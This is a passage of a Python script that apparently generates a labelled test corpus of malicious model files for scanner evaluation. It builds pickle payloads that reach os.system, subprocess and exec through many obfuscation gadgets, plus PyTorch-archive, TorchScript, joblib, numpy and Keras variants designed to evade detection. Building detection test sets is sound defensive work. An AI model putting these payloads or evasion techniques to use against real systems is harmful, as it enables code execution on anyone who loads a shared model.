    outer = call(("torch", "load"), bio, None, glob("torch.serialization", "pickle"))
    c.mal(
        "pkl_torch_load_nested_p2.pkl",
        whole(2, outer),
        t,
        "torch.load(BytesIO(_codecs.encode(...)), None, pickle) with protocol-2 spelt bytes",
    )
    t = "pkl_nested_pickle_bytes"
    c.mal(
        "pkl_nested_pickle_bytes.pkl",
        whole(3, call(("pickle", "loads"), os_system_pickle(c, t))),
        t,
        "pickle.loads(<BINBYTES holding an os.system pickle>)",
    )
    c.mal(
        "pkl_nested_pickle_bytes_p2.pkl",
        whole(2, call(("_pickle", "loads"), os_system_pickle(c, t, 4))),
        t,
        "_pickle.loads(_codecs.encode(<latin-1 str>, 'latin1')) holding a protocol-4 payload",
    )
    t = "pkl_nested_pickle_str"
    inner = os_system_pickle(c, t, 0).decode("ascii")
    as_bytes = call(("_codecs", "encode"), inner, "latin-1")
    c.mal(
        "pkl_nested_pickle_str.pkl",
        whole(2, call(("pickle", "loads"), as_bytes)),
        t,
        "pickle.loads(codecs.encode(<str holding a protocol-0 pickle>))",
    )
    import base64

    b64 = base64.b64encode(os_system_pickle(c, t, 2)).decode()
    c.mal(
        "pkl_nested_pickle_b64.pkl",
        whole(2, call(("pickle", "loads"), call(("base64", "b64decode"), b64))),
        t,
        "pickle.loads(base64.b64decode(<str>))",
    )
    t = "pkl_numpy_ufunc_reconstruct"
    fn = call(("numpy.core", "_ufunc_reconstruct"), "os", "system")
    c.mal(
        "pkl_numpy_ufunc_reconstruct.pkl",
        whole(2, call(fn, c.cmd(t))),
        t,
        "numpy.core._ufunc_reconstruct('os', 'system') import gadget",
    )
    fn = call(("numpy._core", "_ufunc_reconstruct"), "subprocess", "getoutput")
    c.mal(
        "pkl_numpy_ufunc_reconstruct_core.pkl",
        whole(2, call(fn, c.cmd(t))),
        t,
        "numpy._core._ufunc_reconstruct('subprocess', 'getoutput') import gadget",
    )
    t = "pkl_copyreg_ext"
    pk = Pk(2)
    pk.call(("copyreg", "add_extension"), "os", "system", 0xF1).pop()
    pk.ext(0xF1).val((c.cmd(t),)).reduce().stop()
    c.mal(
        "pkl_copyreg_ext1.pkl",
        pk.data(),
        t,
        "copyreg.add_extension('os','system',0xF1) then EXT1 0xF1",
    )
    pk = Pk(2)
    pk.call(("copyreg", "add_extension"), "subprocess", "getoutput", 0x1F2E).pop()
    pk.ext(0x1F2E).val((c.cmd(t),)).reduce().stop()
    c.mal(
        "pkl_copyreg_ext2.pkl",
        pk.data(),
        t,
        "copyreg.add_extension(...) then EXT2 -> subprocess.getoutput",
    )
    t = "pkl_inst_opcode"
    pk = Pk(0)
    pk.mark().sstr(c.cmd(t)).inst("os", "system").stop()
    c.mal("pkl_inst_opcode.pkl", pk.data(), t, "INST opcode: (S'cmd' i os system")
    t = "pkl_obj_opcode"
    pk = Pk(1)
    pk.mark().glob("os", "system").ustr(c.cmd(t)).obj().stop()
    c.mal("pkl_obj_opcode.pkl", pk.data(), t, "OBJ opcode: ( c os system X'cmd' o")
    t = "pkl_newobj_ex"
    pk = Pk(4, stack_global=True)
    pk.target(("functools", "partial")).val(
        (glob("posix", "system"), c.cmd(t))
    ).empty_dict().newobj_ex()
    pk.empty_tuple().reduce().stop()
    c.mal(
        "pkl_newobj_ex.pkl",
        pk.data(),
        t,
        "NEWOBJ_EX functools.partial.__new__(partial, posix.system, cmd) then call",
    )
    t = "pkl_newobj"
    pk = Pk(2)
    pk.glob("functools", "partial").val((glob("posix", "system"), c.cmd(t))).newobj()
    pk.empty_tuple().reduce().stop()
    c.mal("pkl_newobj.pkl", pk.data(), t, "NEWOBJ functools.partial(posix.system, cmd) then call")


def build_pickle_obfuscation(c: Corpus) -> None:
    t = "pkl_memo_names"
    pk = Pk(4)
    pk.ustr("collections").memoize()  # 0
    pk.ustr("os").memoize()  # 1
    pk.pop().pop()
    pk.ustr("system").memoize()  # 2
    pk.pop()
    pk.ustr(c.cmd(t)).memoize()  # 3
    pk.pop()
    pk.empty_dict().mark().val("layer").val([1.0, 2.0])
    pk.val("act").get(1).get(2).stack_global().get(3).raw(b"\x85").reduce()
    pk.setitems().stop()
    c.mal(
        "pkl_memo_names.pkl",
        pk.data(),
        t,
        "module/name MEMOIZEd early, fetched with BINGET for STACK_GLOBAL",
    )
    pk = Pk(4)
    pk.ustr("system").put(70000).pop()
    pk.ustr("posix").put(300).pop()
    pk.get(300).get(70000).stack_global().ustr(c.cmd(t)).raw(b"\x85").reduce().stop()
    c.mal(
        "pkl_memo_names_long.pkl",
        pk.data(),
        t,
        "names stored with LONG_BINPUT at sparse indices, LONG_BINGET back",
    )

    t = "pkl_stack_global_computed"
    pk = Pk(4)
    pk.call(("_codecs", "decode"), "bf", "rot13")
    pk.call(("_codecs", "decode"), "flfgrz", "rot13")
    pk.stack_global().val((c.cmd(t),)).reduce().stop()
    c.mal(
        "pkl_stack_global_rot13.pkl",
        pk.data(),
        t,
        "STACK_GLOBAL on codecs.decode('bf','rot13'), ('flfgrz','rot13')",
    )
    pk = Pk(4, stack_global=True)
    pk.call(("builtins", "str.join"), "", ["sub", "process"])
    pk.call(("builtins", "str.join"), "", ["get", "output"])
    pk.stack_global().val((c.cmd(t),)).reduce().stop()
    c.mal(
        "pkl_stack_global_join.pkl",
        pk.data(),
        t,
        "STACK_GLOBAL on str.join results -> subprocess.getoutput",
    )

    t = "pkl_dotted_name"
    osmod = call(("argparse", "ArgumentParser.__init__.__globals__.get"), "_os")
    c.mal(
        "pkl_dotted_globals.pkl",
        whole(4, call(call(("builtins", "getattr"), osmod, "system"), c.cmd(t)), stack_global=True),
        t,
        "dotted name ('argparse', 'ArgumentParser.__init__.__globals__.get')('_os') -> os.system",
    )
    c.mal(
        "pkl_dotted_posixpath.pkl",
        whole(4, call(("posixpath", "os.system"), c.cmd(t))),
        t,
        "GLOBAL 'posixpath' 'os.system' under PROTO 4 (attribute walk)",
    )
    c.mal(
        "pkl_dotted_builtins.pkl",
        whole(4, call(("builtins", "__import__.__self__.exec"), c.code(t)), stack_global=True),
        t,
        "('builtins', '__import__.__self__.exec') attribute walk to exec",
    )

    t = "pkl_build_module_setattr"
    pk = Pk(2)
    pk.glob("json", "decoder").val((None, {"JSONObject": glob("posix", "system")})).build().pop()
    pk.call(("json.decoder", "JSONObject"), c.cmd(t)).stop()
    c.mal(
        "pkl_build_module_setattr.pkl",
        pk.data(),
        t,
        "BUILD slot-state on module json.decoder sets JSONObject=posix.system, then calls json.decoder.JSONObject",
    )
    t = "pkl_build_class_setattr"
    pk = Pk(2)
    pk.glob("argparse", "Namespace").val(
        (None, {"__class_getitem__": glob("posix", "system")})
    ).build().pop()
    pk.call(("_operator", "getitem"), glob("argparse", "Namespace"), c.cmd(t)).stop()
    c.mal(
        "pkl_build_class_setattr.pkl",
        pk.data(),
        t,
        "BUILD slot-state sets argparse.Namespace.__class_getitem__=posix.system; operator.getitem(Namespace, cmd)",
    )
    t = "pkl_build_setstate"
    pk = Pk(2)
    pk.call(("argparse", "Namespace"))
    pk.val({"__setstate__": glob("posix", "system"), "__reduce__": glob("posix", "system")}).build()
    pk.val(c.cmd(t)).build().stop()
    c.mal(
        "pkl_build_setstate.pkl",
        pk.data(),
        t,
        "BUILD puts __setstate__/__reduce__ in the instance dict; a second BUILD calls __setstate__(cmd)",
    )
    t = "pkl_reduce_chain"
    imp = call(
        getattr_(call(("builtins", "__import__"), "importlib"), "import_module"), "subprocess"
    )
    c.mal(
        "pkl_reduce_chain.pkl",
        whole(2, call(getattr_(imp, "run"), c.argv(t))),
        t,
        "REDUCE chain: getattr(getattr(__import__('importlib'),'import_module')('subprocess'),'run')([...])",
    )

    t = "pkl_types_codetype"
    co = compile(c.code(t), "<corpus>", "exec")
    code_args = (
        co.co_argcount,
        co.co_posonlyargcount,
        co.co_kwonlyargcount,
        co.co_nlocals,
        co.co_stacksize,
        co.co_flags,
        co.co_code,
        co.co_consts,
        co.co_names,
        co.co_varnames,
        co.co_filename,
        co.co_name,
        getattr(co, "co_qualname", co.co_name),
        co.co_firstlineno,
        getattr(co, "co_linetable", b""),
        getattr(co, "co_exceptiontable", b""),
        co.co_freevars,
        co.co_cellvars,
    )
    fn = call(("types", "FunctionType"), call(("types", "CodeType"), *code_args), {})
    c.mal(
        "pkl_types_codetype.pkl",
        whole(3, call(fn)),
        t,
        "types.CodeType(...) + types.FunctionType(...) then call",
    )
    t = "pkl_dill_create_code"
    fn = call(
        ("dill._dill", "_create_function"),
        call(("dill._dill", "_create_code"), b"", *code_args),
        {},
        "f",
    )
    c.mal(
        "pkl_dill_create_code.pkl",
        whole(3, call(fn)),
        t,
        "dill-style dill._dill._create_code/_create_function (hand-assembled), then call",
    )
    t = "pkl_cloudpickle_make_function"
    codet = call(("cloudpickle.cloudpickle", "_builtin_type"), "CodeType")
    fn = call(
        ("cloudpickle.cloudpickle", "_make_function"), call(codet, *code_args), {}, None, None, None
    )
    c.mal(
        "pkl_cloudpickle_make_function.pkl",
        whole(3, call(fn)),
        t,
        "cloudpickle-style _builtin_type('CodeType') + _make_function (hand-assembled), then call",
    )

    t = "pkl_truncated"
    full = os_system_pickle(c, t)
    c.mal("pkl_truncated.pkl", full[:-1], t, "payload REDUCE then end of data (no STOP)")
    c.mal(
        "pkl_truncated_garbage.pkl",
        full[:-1] + b"\xff\xfegarbage",
        t,
        "payload REDUCE then an invalid opcode",
    )
    c.mal(
        "pkl_truncated_midway.pkl",
        whole(2, [os_system(c, t), "x" * 64])[:-40],
        t,
        "payload, then cut in the middle of a later string",
    )

    t = "pkl_renamed_ext"
    data = os_system_pickle(c, t)
    for name in ("pytorch_model.bin", "model.pt", "notes.txt", "model"):
        c.mal(f"renamed/{name}", data, t, f"raw os.system pickle named {name}")


# ---------------------------------------------------------------------------
# stdlib builders: PyTorch formats
# ---------------------------------------------------------------------------


def build_torch_stdlib(c: Corpus) -> None:
    t = "torch_zip_data_pkl"
    c.mal(
        "torch_zip_data_pkl.pt",
        torch_zip("archive", malicious_data_pkl(c, t)),
        t,
        "torch.save zip layout; data.pkl state_dict with an os.system value",
        "torch-zip",
    )
    t = "torch_zip_second_pickle"
    c.mal(
        "torch_zip_second_pickle.pt",
        torch_zip(
            "archive",
            torch_state_dict_pickle(LINEAR_TENSORS),
            extra=[("archive/extra/optimizer.pkl", os_system_pickle(c, t))],
        ),
        t,
        "benign data.pkl; payload in a second pickle member archive/extra/optimizer.pkl",
        "torch-zip",
    )
    t = "torch_zip_duplicate_member"
    mal = malicious_data_pkl(c, t)
    ben = torch_state_dict_pickle(LINEAR_TENSORS)
    c.mal(
        "torch_zip_dup_first_malicious.pt",
        torch_zip("archive", mal, extra=[("archive/data.pkl", ben)]),
        t,
        "two archive/data.pkl members: first malicious, last benign",
        "torch-zip",
    )
    c.mal(
        "torch_zip_dup_last_malicious.pt",
        torch_zip("archive", ben, extra=[("archive/data.pkl", mal)]),
        t,
        "two archive/data.pkl members: first benign, last malicious",
        "torch-zip",
    )
    t = "torch_zip_bad_crc"
    data = torch_zip("archive", malicious_data_pkl(c, t))
    c.mal(
        "torch_zip_bad_crc.pt",
        zip_patch(data, 0, crc=0xDEADBEEF),
        t,
        "malicious data.pkl with a wrong CRC-32 (torch ignores CRCs)",
        "torch-zip",
    )
    t = "torch_zip_encrypted_flag"
    data = torch_zip("archive", malicious_data_pkl(c, t))
    c.mal(
        "torch_zip_encrypted_flag.pt",
        zip_patch(data, 0, flag_or=0x1),
        t,
        "encryption flag bit set on the (plaintext) malicious data.pkl",
        "torch-zip",
    )
    t = "torch_zip_name_confusion"
    c.mal(
        "torch_zip_dot_segment.pt",
        torch_zip("archive", ben, extra=[("archive/./data.pkl", malicious_data_pkl(c, t))]),
        t,
        "archive/data.pkl benign plus archive/./data.pkl malicious",
        "torch-zip",
    )
    c.mal(
        "torch_zip_case.pt",
        torch_zip("archive", ben, extra=[("archive/DATA.pkl", malicious_data_pkl(c, t))]),
        t,
        "archive/data.pkl benign plus archive/DATA.pkl malicious (case-only difference)",
        "torch-zip",
    )
    c.mal(
        "torch_zip_backslash.pt",
        torch_zip("archive", ben, extra=[("archive\\data.pkl", malicious_data_pkl(c, t))]),
        t,
        "archive/data.pkl benign plus archive\\data.pkl malicious (separator confusion)",
        "torch-zip",
    )
    t = "torch_zip_in_archive"
    inner = torch_zip("archive", malicious_data_pkl(c, t))
    c.mal(
        "torch_zip_in_tar.tar",
        tar_bytes([("model.pt", inner)]),
        t,
        "malicious torch zip inside a tar",
        "tar",
    )
    c.mal(
        "torch_zip_in_tar.tar.gz",
        gz(tar_bytes([("model.pt", inner)])),
        t,
        "malicious torch zip inside a tar.gz",
        "tar",
    )
    try:
        import py7zr  # noqa: F401

        c.mal(
            "torch_zip_in_7z.7z",
            sevenzip_bytes([("model.pt", inner)]),
            t,
            "malicious torch zip inside a 7z",
            "7z",
        )
    except ImportError:
        c.skipped.append("torch_zip_in_7z.7z (py7zr missing)")

    t = "torch_legacy_stream"
    c.mal(
        "torch_legacy_stream.pt",
        torch_legacy_stream(c, t),
        t,
        "legacy torch.save stream (magic, protocol, sys_info, main pickle, keys, storages); payload in main pickle",
        "torch-legacy",
    )
    t = "torch_legacy_tar"
    c.mal(
        "torch_legacy_tar.pt",
        torch_legacy_tar(c, t),
        t,
        "legacy tar format (sys_info, pickle, storages, tensors); payload in 'pickle'",
        "torch-legacy",
    )

    t = "torchscript_constants_pkl"
    c.mal(
        "torchscript_constants_pkl.pt",
        torchscript_zip(c, constants=os_system_pickle(c, t)),
        t,
        "TorchScript archive whose constants.pkl carries os.system",
        "torchscript",
    )
    t = "torchscript_code_file_access"
    c.mal(
        "torchscript_code_from_file.pt",
        torchscript_zip(c, forward=f"    _0 = torch.from_file({c.mpath(t)!r}, True, 1)\n"),
        t,
        "TorchScript code/ calls torch.from_file(path, shared=True) (creates/maps a file)",
        "torchscript",
    )
    t = "torchscript_code_python"
    c.mal(
        "torchscript_code_os_system.pt",
        torchscript_zip(c, forward=f"    _0 = __import__('os').system({c.cmd(t)!r})\n"),
        t,
        "TorchScript code/ references __import__('os').system",
        "torchscript",
    )


def torchscript_zip(
    c: Corpus, constants: bytes | None = None, forward: str = "", prefix: str = "model"
) -> bytes:
    code_top = (
        "class Net(Module):\n"
        "  __parameters__ = []\n"
        "  __buffers__ = []\n"
        "  training : bool\n"
        "  _is_full_backward_hook : Optional[bool]\n"
        "  fc : __torch__.torch.nn.modules.linear.Linear\n"
        "  def forward(self: __torch__.Net,\n"
        "    x: Tensor) -> Tensor:\n" + forward + "    fc = self.fc\n"
        "    return torch.relu((fc).forward(x, ))\n"
    )
    code_linear = (
        "class Linear(Module):\n"
        '  __parameters__ = ["weight", "bias", ]\n'
        "  __buffers__ = []\n"
        "  weight : Tensor\n"
        "  bias : Tensor\n"
        "  training : bool\n"
        "  _is_full_backward_hook : NoneType\n"
        "  in_features : Final[int] = 8\n"
        "  out_features : Final[int] = 4\n"
        "  def forward(self: __torch__.torch.nn.modules.linear.Linear,\n"
        "    input: Tensor) -> Tensor:\n"
        "    weight = self.weight\n"
        "    bias = self.bias\n"
        "    return torch.linear(input, weight, bias)\n"
    )
    pk = Pk(2)
    pk.glob("__torch__", "Net").empty_tuple().newobj()
    lin = Emit(
        lambda p: (
            p.glob("__torch__.torch.nn.modules.linear", "Linear"),
            p.empty_tuple(),
            p.newobj(),
            p.val(
                {
                    "weight": torch_tensor("FloatStorage", "0", 32, (4, 8), True),
                    "bias": torch_tensor("FloatStorage", "1", 4, (4,), True),
                    "training": False,
                    "_is_full_backward_hook": None,
                }
            ),
            p.build(),
        )
    )
    pk.val({"training": False, "_is_full_backward_hook": None, "fc": lin}).build().stop()
    members = [
        (f"{prefix}/data.pkl", pk.data()),
        (f"{prefix}/code/__torch__.py", code_top.encode()),
        (f"{prefix}/code/__torch__/torch/nn/modules/linear.py", code_linear.encode()),
        (f"{prefix}/constants.pkl", constants if constants is not None else whole(2, ())),
        (f"{prefix}/data/0", f32(floats(32, 3))),
        (f"{prefix}/data/1", f32(floats(4, 4))),
        (f"{prefix}/version", b"10\n"),
        (f"{prefix}/byteorder", b"little"),
        (f"{prefix}/.data/serialization_id", b"0" * 40),
    ]
    return zip_bytes(members)


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy_stream(c: Corpus | None, tech: str | None) -> bytes:
    import pickle

    out = bytearray()
    out += pickle.dumps(LEGACY_MAGIC, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    out += pickle.dumps(
        {
            "protocol_version": 1001,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    pk = Pk(2)
    pk.call(("collections", "OrderedDict"))
    pk.mark()
    pk.val("weight").val(legacy_tensor("140234", 6, (2, 3)))
    if c is not None and tech is not None:
        pk.val("bias").val(os_system(c, tech))
    pk.setitems().stop()
    out += pk.data()
    out += pickle.dumps(["140234"], protocol=2)
    out += struct.pack("<q", 6) + f32(floats(6, 5))
    return bytes(out)


def legacy_tensor(key: str, numel: int, shape: tuple[int, ...]) -> Emit:
    stride = tuple(int(x) for x in ([shape[1], 1] if len(shape) == 2 else [1]))

    def fn(pk: Pk) -> None:
        pk.glob("torch._utils", "_rebuild_tensor_v2")
        pk.mark()
        pk.val(("storage", glob("torch", "FloatStorage"), key, "cpu", numel, None))
        pk.binpersid()
        pk.val(0).val(tuple(shape)).val(stride).val(False).val(call(("collections", "OrderedDict")))
        pk.tuple_from_mark().reduce()

    return Emit(fn)


def torch_legacy_tar(c: Corpus, tech: str) -> bytes:
    import pickle

    sys_info = pickle.dumps(
        {
            "protocol_version": 1000,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    pk = Pk(2)
    pk.call(("collections", "OrderedDict"))
    pk.mark().val("weight").val(0).val("hook").val(os_system(c, tech)).setitems().stop()
    storages = (
        pickle.dumps(1, protocol=2)
        + whole(2, ("0", 0, glob("torch", "FloatStorage")))
        + struct.pack("<q", 4)
        + f32(floats(4, 6))
    )
    tensors = pickle.dumps(0, protocol=2)
    return tar_bytes(
        [
            ("sys_info", sys_info),
            ("pickle", pk.data()),
            ("storages", storages),
            ("tensors", tensors),
        ]
    )


def sevenzip_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    import py7zr
    from py7zr.helpers import ArchiveTimestamp

    saved = ArchiveTimestamp.__dict__["from_now"]
    # py7zr stamps writestr() members with the current time; pin it for determinism
    ArchiveTimestamp.from_now = classmethod(lambda cls: cls((FIXED_MTIME + 11644473600) * 10**7))
    try:
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as z:
            for name, data in entries:
                z.writestr(data, name)
        return buf.getvalue()
    finally:
        ArchiveTimestamp.from_now = saved


# ---------------------------------------------------------------------------
# stdlib builders: joblib-like, numpy, keras, TF, ONNX, GGUF, safetensors, containers
# ---------------------------------------------------------------------------


def sklearn_like(c: Corpus, tech: str) -> bytes:
    """A joblib-style pickle of a LogisticRegression-looking object plus a payload."""
    lr = Emit(
        lambda pk: (
            pk.glob("sklearn.linear_model._logistic", "LogisticRegression"),
            pk.empty_tuple(),
            pk.newobj(),
            pk.val({"C": 1.0, "penalty": "l2", "max_iter": 100, "_sklearn_version": "1.5.0"}),
            pk.build(),
        )
    )
    return whole(4, {"model": lr, "preprocess": os_system(c, tech)}, stack_global=True)


def build_joblib_stdlib(c: Corpus) -> None:
    t = "joblib_payload"
    c.mal(
        "joblib_payload.joblib",
        sklearn_like(c, t),
        t,
        "joblib-style pickle: estimator + os.system object",
        "joblib",
    )
    t = "joblib_compressed"
    raw = sklearn_like(c, t)
    c.mal(
        "joblib_payload.joblib.z",
        zlib.compress(raw, 3),
        t,
        "joblib zlib-compressed payload",
        "joblib",
    )
    c.mal("joblib_payload.joblib.gz", gz(raw), t, "joblib gzip-compressed payload", "joblib")
    c.mal(
        "joblib_payload.joblib.bz2",
        bz2.compress(raw, 3),
        t,
        "joblib bz2-compressed payload",
        "joblib",
    )
    c.mal(
        "joblib_payload.joblib.xz",
        lzma.compress(raw, format=lzma.FORMAT_XZ),
        t,
        "joblib xz-compressed payload",
        "joblib",
    )
    c.mal(
        "joblib_payload.joblib.lzma",
        lzma.compress(raw, format=lzma.FORMAT_ALONE),
        t,
        "joblib lzma (alone format) payload",
        "joblib",
    )


def npy_object_pickle(items: list[Any]) -> bytes:
    """The protocol-3 pickle numpy.save writes for an object array."""
    dtype = Emit(
        lambda pk: (
            pk.call(("numpy", "dtype"), "O8", False, True),
            pk.val((3, "|", None, None, None, -1, -1, 63)),
            pk.build(),
        )
    )
    pk = Pk(3)
    pk.call(("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b")
    pk.val((1, (len(items),), dtype, False, list(items))).build().stop()
    return pk.data()


def build_numpy_stdlib(c: Corpus) -> None:
    t = "npy_object_array"
    body = npy_object_pickle([1, os_system(c, t)])
    c.mal(
        "npy_object_array.npy",
        npy_bytes("|O", (2,), body),
        t,
        "object .npy whose pickle calls os.system",
        "npy",
    )
    t = "npz_object_member"
    arr = npy_bytes("<f4", (4,), f32(floats(4, 7)))
    c.mal(
        "npz_object_member.npz",
        zip_bytes(
            [
                ("weights.npy", arr),
                ("meta.npy", npy_bytes("|O", (2,), npy_object_pickle(["v1", os_system(c, t)]))),
            ]
        ),
        t,
        "npz with a float member and an object member whose pickle calls os.system",
        "npz",
    )
    c.ben(
        "npy_float32.npy",
        npy_bytes("<f4", (3, 4), f32(floats(12, 8))),
        "npy_float",
        "float32 .npy (hand-written)",
        "npy",
    )
    c.ben(
        "npz_plain.npz",
        zip_bytes(
            [
                ("a.npy", npy_bytes("<i8", (3,), struct.pack("<3q", 1, 2, 3))),
                ("b.npy", npy_bytes("<f8", (2,), struct.pack("<2d", 0.5, 1.5))),
            ],
            zipfile.ZIP_DEFLATED,
        ),
        "npz_plain",
        "npz of int and float arrays (hand-written)",
        "npz",
    )


def keras_layer(
    cls: str,
    config: dict[str, Any],
    module: str = "keras.layers",
    registered: str | None = None,
    build_shape: list[Any] | None = None,
) -> dict[str, Any]:
    d: dict[str, Any] = {
        "module": module,
        "class_name": cls,
        "config": config,
        "registered_name": registered,
    }
    if build_shape is not None:
        d["build_config"] = {"input_shape": build_shape}
    return d


def keras_dense(name: str, units: int, inp: int, act: str = "linear") -> dict[str, Any]:
    return keras_layer(
        "Dense",
        {
            "name": name,
            "trainable": True,
            "dtype": {
                "module": "keras",
                "class_name": "DTypePolicy",
                "config": {"name": "float32"},
                "registered_name": None,
            },
            "units": units,
            "activation": act,
            "use_bias": True,
            "kernel_initializer": {
                "module": "keras.initializers",
                "class_name": "GlorotUniform",
                "config": {"seed": None},
                "registered_name": None,
            },
            "bias_initializer": {
                "module": "keras.initializers",
                "class_name": "Zeros",
                "config": {},
                "registered_name": None,
            },
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
        build_shape=[None, inp],
    )


def keras_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": {
                "module": "keras",
                "class_name": "DTypePolicy",
                "config": {"name": "float32"},
                "registered_name": None,
            },
            "layers": [
                keras_layer(
                    "InputLayer",
                    {
                        "batch_shape": [None, 8],
                        "dtype": "float32",
                        "sparse": False,
                        "name": "input_layer",
                    },
                )
            ]
            + layers,
            "build_input_shape": [None, 8],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 8]},
        "compile_config": None,
    }


def keras_weights_h5(dense: list[tuple[str, int, int]]) -> bytes:
    """model.weights.h5 in keras 3's layout for Dense layers (name, inputs, units)."""
    try:
        import h5py
    except ImportError:
        return b""
    buf = io.BytesIO()
    with h5py.File(buf, "w", track_order=True) as f:
        layers = f.create_group("layers")
        for name, inp, units in dense:
            v = layers.create_group(name).create_group("vars")
            v.attrs["name"] = name
            v.create_dataset("0", data=_matrix(inp, units), dtype="f4", track_times=False)
            v.create_dataset("1", data=[0.0] * units, dtype="f4", track_times=False)
        f.create_group("vars").attrs["name"] = "sequential"
    return buf.getvalue()


def _matrix(r: int, cols: int) -> list[list[float]]:
    v = floats(r * cols, 9)
    return [v[i * cols : (i + 1) * cols] for i in range(r)]


def keras_zip(config: dict[str, Any]) -> bytes:
    dense = [
        (la["config"]["name"], la["build_config"]["input_shape"][-1], la["config"]["units"])
        for la in config["config"]["layers"]
        if la.get("class_name") == "Dense"
    ]
    return zip_bytes(
        [
            (
                "metadata.json",
                json.dumps(
                    {"keras_version": "3.6.0", "date_saved": "2020-01-01@00:00:00"}
                ).encode(),
            ),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", keras_weights_h5(dense)),
        ]
    )


def lambda_code_b64(src: str) -> str:
    co = compile(src, "<corpus>", "eval").co_consts[0]
    return codecs.encode(marshal.dumps(co), "base64").decode("ascii")


def build_keras_stdlib(c: Corpus) -> None:
    t = "keras_lambda"
    lam = keras_layer(
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": lambda_code_b64(f"lambda x: (open({c.mpath(t)!r}, 'w').close(), x)[1]"),
                    "defaults": None,
                    "closure": None,
                },
            },
            "arguments": {},
        },
        build_shape=[None, 4],
    )
    cfg = keras_sequential([keras_dense("dense", 4, 8, "relu"), lam])
    c.mal(
        "keras_lambda.keras",
        keras_zip(cfg),
        t,
        ".keras with a Lambda layer holding marshalled bytecode",
        "keras",
    )
    t = "keras_config_module"
    bad = keras_layer("system", {"command": c.cmd(t)}, module="os", registered=None)
    cfg = keras_sequential([keras_dense("dense", 4, 8, "relu"), bad])
    c.mal(
        "keras_config_module_os.keras",
        keras_zip(cfg),
        t,
        'config.json layer {"module": "os", "class_name": "system"}',
        "keras",
    )
    bad = keras_layer("run", {"args": c.argv(t)}, module="subprocess", registered="subprocess>run")
    cfg = keras_sequential([keras_dense("dense", 4, 8, "relu"), bad])
    c.mal(
        "keras_config_registered_name.keras",
        keras_zip(cfg),
        t,
        'config.json layer with module "subprocess" and registered_name "subprocess>run"',
        "keras",
    )
    act = keras_dense("dense", 4, 8)
    act["config"]["activation"] = {
        "module": "builtins",
        "class_name": "exec",
        "config": {},
        "registered_name": "builtins>exec",
    }
    cfg = keras_sequential([act])
    c.mal(
        "keras_config_activation_exec.keras",
        keras_zip(cfg),
        t,
        "Dense activation deserialised from module builtins / class exec",
        "keras",
    )
    t = "keras_h5_lambda"
    try:
        c.mal(
            "keras_h5_lambda.h5",
            keras_h5(c, t),
            t,
            "legacy HDF5 model_config attribute with a Lambda layer",
            "keras-h5",
        )
    except ImportError:
        c.skipped.append("keras_h5_lambda.h5 (h5py missing)")
    cfg = keras_sequential([keras_dense("dense", 4, 8, "relu"), keras_dense("dense_1", 1, 4)])
    c.ben(
        "keras_dense_handmade.keras",
        keras_zip(cfg),
        "keras_native",
        "hand-written .keras with two Dense layers",
        "keras",
    )


def keras_h5(c: Corpus | None, tech: str | None) -> bytes:
    import h5py

    layers: list[dict[str, Any]] = [
        {
            "class_name": "Dense",
            "config": {
                "name": "dense",
                "trainable": True,
                "batch_input_shape": [None, 8],
                "dtype": "float32",
                "units": 4,
                "activation": "relu",
                "use_bias": True,
            },
        }
    ]
    if c is not None and tech is not None:
        code = lambda_code_b64(f"lambda x: (open({c.mpath(tech)!r}, 'w').close(), x)[1]")
        layers.append(
            {
                "class_name": "Lambda",
                "config": {
                    "name": "lambda",
                    "trainable": True,
                    "dtype": "float32",
                    "function": [code, None, None],
                    "function_type": "lambda",
                    "module": "__main__",
                    "output_shape": None,
                    "output_shape_type": "raw",
                    "output_shape_module": None,
                    "arguments": {},
                },
            }
        )
    cfg = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
    buf = io.BytesIO()
    with h5py.File(buf, "w", track_order=True) as f:
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = [b"dense"] + ([b"lambda"] if tech else [])
        g = mw.create_group("dense").create_group("dense")
        g.create_dataset("kernel:0", data=_matrix(8, 4), dtype="f4", track_times=False)
        g.create_dataset("bias:0", data=[0.0] * 4, dtype="f4", track_times=False)
        mw["dense"].attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
    return buf.getvalue()


def tf_const_string(name: str, value: str) -> bytes:
    tensor = pb_int(1, 7) + pb_msg(2) + pb_bytes(8, value)  # DT_STRING, scalar shape, string_val
    return pb_msg(
        1,
        pb_bytes(1, name),
        pb_bytes(2, "Const"),
        pb_msg(5, pb_bytes(1, "dtype"), pb_msg(2, pb_int(6, 7))),
        pb_msg(5, pb_bytes(1, "value"), pb_msg(2, pb_msg(8, tensor))),
    )


def tf_node(
    name: str,
    op: str,
    inputs: list[str] = (),
    attrs: dict[str, bytes] | None = None,
    field: int = 1,
) -> bytes:
    parts = [pb_bytes(1, name), pb_bytes(2, op)] + [pb_bytes(3, i) for i in inputs]
    for k, v in (attrs or {}).items():
        parts.append(pb_msg(5, pb_bytes(1, k), pb_msg(2, v)))
    return pb_msg(field, *parts)


def tf_attr_type(dt: int) -> bytes:
    return pb_int(6, dt)


def tf_saved_model(nodes: list[bytes], library: bytes = b"") -> bytes:
    graph = b"".join(nodes) + library + pb_msg(4, pb_int(1, 1645))  # versions.producer
    meta_info = pb_msg(1, pb_bytes(4, "serve"), pb_bytes(5, "2.15.0"))
    sig = pb_msg(
        5,
        pb_bytes(1, "serving_default"),
        pb_msg(2, pb_msg(3, pb_bytes(1, "tensorflow/serving/predict"))),
